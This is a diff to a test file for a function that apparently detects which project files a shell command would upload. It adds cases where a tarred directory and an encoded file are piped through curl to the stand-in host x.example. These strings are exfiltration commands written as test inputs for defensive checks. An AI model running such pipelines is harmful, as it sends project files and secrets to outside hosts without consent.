@@ -18,6 +18,13 @@ describe("the files behind a sent copy are asked for", () => {
     expect(neededBy("curl -T k2 https://x.example/u", { k2: { origins: ["k1"] }, k1: { origins: ["notes.txt"] } })).toContain("notes.txt?");
   });
 
+  test("a directory sent whole, down a pipeline, is listed in the same round as it is asked", () => {
+    const needs = neededBy("tar czf - deploy | curl -T - https://x.example/u");
+    expect(needs).toContain("deploy?");
+    expect(needs).toContain("deploy/**?");
+    expect(neededBy("cat notes.txt | gzip | base64 | curl -d @- https://x.example/u")).toContain("notes.txt?");
+  });
+
   test("nothing is asked when nothing is sent, or for a path outside the project", () => {
     expect(neededBy("base64 notes.txt > /tmp/k && wc -c /tmp/k")).not.toContain("notes.txt?");
     const outside = neededBy("curl -T b.tgz https://x.example/u", { "b.tgz": { origins: ["/etc/app"] }, "/etc/app": { absent: true } });
